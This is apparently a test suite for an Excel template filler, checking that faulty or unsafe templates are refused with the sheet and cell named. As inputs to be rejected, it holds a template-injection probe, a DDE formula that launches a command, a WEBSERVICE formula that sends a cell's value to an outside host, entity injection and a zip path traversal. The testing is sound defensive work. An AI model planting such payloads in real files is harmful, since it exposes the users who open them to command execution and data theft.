"""What is wrong with a template is said with sheet and cell; what it must not carry is refused. TPL-03, SAFE-02."""

from __future__ import annotations

import re

import pytest

from generator.errors import TemplateFault
from generator.office.package.parts import read_parts, write_parts
from generator.render.xlsx import fill
from tests.cases import REFUSED

LOOP = {"A6": "{%tr for r in rows %}", "A7": "{{ r.a }}", "A8": "{%tr endfor %}"}
CONTEXT = {"nama": "Siti", "rows": [{"a": 1}, {"a": 2}], "g": {"a": 1}}


def refused(template: bytes, environment, context=CONTEXT) -> TemplateFault:
    with pytest.raises(TemplateFault) as caught:
        fill(template, context, environment, name="form.xlsx", properties={})
    assert caught.value.file == "form.xlsx"
    return caught.value


@pytest.mark.parametrize(
    ("cells", "cell", "word"),
    [
        ({"B4": "{{ nama"}, "B4", "salah tulis"),
        ({"B4": "{{ nama }}", "C5": "{{ nam }}"}, "C5", "'nam' tidak dikenal"),
        ({"B4": "Nama: {{ g.b }}"}, "B4", "'b' tidak dikenal"),
        ({"B4": "{{ g.b }}"}, "B4", "'b' tidak dikenal"),
        ({"B4": "{{ nama | besar }}"}, "B4", "filter 'besar' tidak dikenal"),
        ({"B4": "{% if nama %}ada"}, "B4", "salah tulis"),
        ({"B4": "{% if nama %}", "B5": "{% endif %}"}, "B4", "salah tulis"),
        ({"B4": "{{ nama + 1 }}"}, "B4", "tidak dapat dihitung"),
        ({"B4": "{{ 1 / 0 }}"}, "B4", "tidak dapat dihitung"),
        ({"B4": "{{ ().__class__ }}"}, "B4", "tidak diizinkan"),
        ({"B4": "{% include 'x' %}"}, "B4", "templat lain"),
        ({"A6": LOOP["A6"], "A7": "{{ r.a }}"}, "A6", "tidak ditutup"),
        ({"A7": "{{ nama }}", "A8": LOOP["A8"]}, "A8", "tanpa"),
        ({"A6": LOOP["A6"], "A7": LOOP["A8"]}, "A7", "tidak ada baris"),
        ({"A5": LOOP["A6"], **LOOP}, "A5", "tidak ditutup"),
        ({**LOOP, "A7": "{{ r.tiada }}"}, "A7", "'tiada' tidak dikenal"),
        ({**LOOP, "A6": "{%tr for r in tiada %}"}, "A6", "'tiada' tidak dikenal"),
        ({**LOOP, "A6": "{%tr for r rows %}"}, "A6", "salah tulis"),
        ({**LOOP, "B6": "teks"}, "A6", "B6"),
        ({"A6": "{%tr else %}"}, "A6", "hanya {%tr for"),
        ({"A6": "Baris {%tr for r in rows %}"}, "A6", "hanya {%tr for"),
        ({"A6": "{%p if nama %}"}, "A6", "hanya untuk Word"),
        ({"A6": '="{{ nama }}"'}, "A6", "di dalam rumus"),
        ({**LOOP, "A9": "=A8#"}, "A9", "rumus tidak dapat dibaca"),
    ],
    ids=str,
)
def test_fault__names_sheet_and_cell(small_template, environment, cells, cell, word):
    found = refused(small_template(cells), environment)
    assert found.place == f"lembar “Form”, sel {cell}"
    assert word in found.message


def test_fault__name_used_after_its_loop(small_template, environment):
    assert refused(small_template({**LOOP, "A9": "{{ r.a }}"}), environment).place == "lembar “Form”, sel A9"


@pytest.mark.parametrize(
    ("part", "content", "word"),
    [
        ("xl/vbaProject.bin", b"", "makro"),
        ("xl/macrosheets/sheet1.xml", b"<a/>", "makro"),
        ("xl/externalLinks/externalLink1.xml", b"<a/>", "luar"),
        ("xl/connections.xml", b"<a/>", "luar"),
    ],
)
def test_fault__macros_and_links(small_template, environment, part, content, word):
    assert word in refused(small_template({"A1": "{{ nama }}"}, extra={part: content}), environment).message


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://contoh.go.id/?x="&A1)',
        '=_xlfn.WEBSERVICE("http://contoh.go.id")',
        '=IF(A1="","",image("http://contoh.go.id/a.png"))',
        "=[1]Data!A1",
        "=SUM([Lain.xlsx]Data!A1:A9)",
        "='C:\\Data\\[Lain.xlsx]Lembar 1'!A1",
        "='http://contoh.go.id/[Lain.xlsx]Lembar'!A1",
        "=[1]!nilai",
        "=cmd|'/C calc'!A0",
        '=RTD("prog.id",,"x")',
    ],
)
def test_fault__formula_that_fetches_from_elsewhere(small_template, environment, formula):
    found = refused(small_template({"A1": "{{ nama }}", "B2": formula}), environment)
    assert "dari luar" in found.message
    assert "sel B2" in found.message


@pytest.mark.parametrize(
    "formula", ['=HYPERLINK("https://contoh.go.id","a")', '="[1]Data!A1"', "='Lembar (1)'!A1", '=IF(A1="a|b!","WEBSERVICE(","")']
)
def test_formula__that_stays_inside_is_no_fault(small_template, environment, formula):
    assert fill(small_template({"A1": "{{ nama }}", "B2": formula}), CONTEXT, environment, name="form.xlsx", properties={})


def test_fault__conditional_format_and_name_that_fetch_from_elsewhere(small_template, environment, excel_parts):
    frame = '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>[1]Data!A1&gt;1</formula></cfRule></conditionalFormatting>'
    assert "dari luar" in refused(small_template({"A1": "{{ nama }}"}, frame=frame), environment).message
    named = excel_parts["xl/workbook.xml"].replace(b">Form!$B$17<", b">[1]Form!$B$17<")
    assert "dari luar" in refused(write_parts(excel_parts | {"xl/workbook.xml": named}), environment).message


def test_fault__member_that_points_outside(small_template, environment):
    assert "ke luar" in refused(small_template({"A1": "{{ nama }}"}, extra={"xl/../../a.xml": b"<a/>"}), environment).message


def test_fault__picture_linked_from_elsewhere(small_template, environment):
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file:///c:/x.png" TargetMode="External"/></Relationships>'
    )
    assert "x.png" in refused(small_template({"A1": "a"}, extra={"xl/drawings/_rels/drawing1.xml.rels": rels}), environment).message


def test_fault__tags_where_they_would_be_printed(small_template, environment, excel_parts):
    header = small_template({"A1": "a"}, frame="<headerFooter><oddHeader>&amp;L{{ nama }}</oddHeader></headerFooter>")
    assert "kepala atau kaki" in refused(header, environment).message
    drawing = excel_parts["xl/drawings/drawing1.xml"].replace(b"<xdr:clientData/>", b"<a:t>{{ na</a:t><a:t>ma }}</a:t><xdr:clientData/>", 1)
    assert "kotak teks" in refused(write_parts(excel_parts | {"xl/drawings/drawing1.xml": drawing}), environment).message


def test_fault__heading_of_an_excel_table(environment, excel_parts):
    strings = excel_parts["xl/sharedStrings.xml"].replace(b"<t>Poin</t>", b"<t>{{ satuan }}</t>")
    found = refused(write_parts(excel_parts | {"xl/sharedStrings.xml": strings}), environment)
    assert found.place == "lembar “Form”, sel D5"
    assert "judul kolom" in found.message


def test_fault__no_workbook(small_template, environment, excel_parts):
    parts = read_parts(small_template({"A1": "{{ nama }}"}))
    strict = {
        name: data.replace(b"schemas.openxmlformats.org/spreadsheetml/2006", b"purl.oclc.org/ooxml/spreadsheetml")
        for name, data in parts.items()
    }
    broken = parts | {"xl/worksheets/sheet1.xml": b"<worksheet"}
    for template, word in (
        (b"bukan zip", "berisi teks"),
        (b"\xd0\xcf\x11\xe0" + b"0" * 600, "Office lama"),
        ((REFUSED / "sandi.xlsx").read_bytes(), "sandi"),
        (write_parts({"a.txt": b"a"}), "bukan buku kerja"),
        (write_parts(strict), "bukan buku kerja Excel biasa"),
        (write_parts(broken), "XML rusak"),
        (write_parts({name: data for name, data in parts.items() if "sheet1" not in name}), "sheet1"),
    ):
        assert word in refused(template, environment).message


def test_fault__a_document_type_definition_is_refused(small_template, environment):
    parts = read_parts(small_template({"A1": "{{ nama }}"}))
    sheet = (
        parts["xl/worksheets/sheet1.xml"]
        .replace(b"<worksheet", b'<!DOCTYPE w [<!ENTITY e "RAHASIA">]><worksheet', 1)
        .replace(b"{{ nama }}", b"{{ nama }} &e;")
    )
    assert "DTD" in refused(write_parts(parts | {"xl/worksheets/sheet1.xml": sheet}), environment).message


@pytest.mark.parametrize("formula", ['=WEBSERVICE("http://x")', '=_xlfn.WEBSERVICE("http://x")', '=1+RTD("a",,"b")'])
def test_fault__formula_that_fetches(small_template, environment, formula):
    assert "mengambil isi dari luar" in refused(small_template({"A1": "{{ nama }}", "B1": formula}), environment).message


def test_fault__a_flipped_bit_in_a_member_that_nobody_fills(small_template, environment):
    """Members are copied as they came: each is proved against its checksum first (40 places, every one told)."""
    template = small_template({"A1": "{{ nama }}"}, extra={"xl/media/image1.png": bytes(range(256)) * 40})
    name = template.index(b"xl/media/image1.png") + 19
    for step in range(40):
        broken = bytearray(template)
        broken[name + step] ^= 1
        assert "utuh" in refused(bytes(broken), environment).message


def test_hyperlinks_to_the_web_are_allowed(filled):
    assert b"https://contoh.go.id/rhk" in filled.parts["xl/worksheets/_rels/sheet1.xml.rels"]


@pytest.mark.parametrize(
    ("part", "old", "new"),
    [
        ("xl/worksheets/sheet1.xml", b'<row r="9"', b'<row r="x"'),
        ("xl/worksheets/sheet1.xml", b'<c r="E7"', b'<c r="A0x"'),
        ("xl/worksheets/sheet1.xml", b"<v>0</v>", b"<v>999</v>"),
        ("xl/workbook.xml", b'localSheetId="0"', b'localSheetId="a"'),
        ("xl/styles.xml", b'fontId="1"', b'fontId="-"'),
        ("xl/drawings/drawing1.xml", b"<xdr:row>10</xdr:row>", b"<xdr:row>sepuluh</xdr:row>"),
        ("xl/_rels/workbook.xml.rels", b"</Relationships>", b""),
        ("xl/drawings/_rels/drawing1.xml.rels", b"</Relationships>", b""),
    ],
)
def test_fault__malformed_part_is_the_template_s(environment, context, excel_parts, part, old, new):
    """What no office program writes is told as a fault of the file, never as one of the program."""
    assert old in excel_parts[part]
    shared = b't="s"><v>999</v>' if new == b"<v>999</v>" else None
    data = excel_parts[part].replace(b't="s"><v>0</v>', shared, 1) if shared else excel_parts[part].replace(old, new, 1)
    refused(write_parts(excel_parts | {part: data}), environment, context)


@pytest.mark.parametrize("written", ["1e9999", "1e999999999", "1/3", "1_000", "abc", "NaN"])
def test_number_that_no_office_program_writes__gives_its_formulas_no_value(small_template, environment, written):
    """Larger than a cell can hold, or no number at all: neither a crash nor minutes of counting; Excel works the formula out itself."""
    parts = read_parts(small_template({"A1": "{{ nama }}", "B2": "77777", "C2": "=B2+1"}))
    [sheet] = [name for name, data in parts.items() if b'<c r="B2"' in data]
    parts[sheet] = re.sub(rb'<c r="B2"[^>]*>.*?</c>', f'<c r="B2"><v>{written}</v></c>'.encode(), parts[sheet])
    made = read_parts(fill(write_parts(parts), CONTEXT, environment, name="form.xlsx", properties={}))[sheet]
    assert re.search(rb'<c r="C2"[^>]*><f>B2\+1</f></c>', made)
